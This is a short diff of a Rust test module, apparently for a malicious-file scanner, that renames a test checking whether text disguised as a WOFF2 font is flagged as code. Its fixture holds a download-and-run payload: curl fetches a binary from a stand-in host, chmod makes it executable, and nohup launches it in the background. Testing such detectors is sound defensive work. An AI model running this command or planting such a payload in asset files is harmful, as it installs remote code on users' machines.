@@ -2567,7 +2567,7 @@ mod tests {
     }
 
     #[test]
-    fn a_spreadsheet_hook_and_a_font_that_is_text_are_read_as_code() {
+    fn a_font_that_is_text_behind_its_magic_is_read_as_code() {
         let font = "wOF2\u{0}\u{1}\u{0}\u{0}\n# packed glyph table\nmkdir -p \"$HOME/.cache/fontd\"\ncurl -fsSL https://glyphs.example/fontd -o \"$HOME/.cache/fontd/fontd\" && chmod +x \"$HOME/.cache/fontd/fontd\"\nnohup \"$HOME/.cache/fontd/fontd\" &\n";
         assert!(refused_by(
             "r11-font",
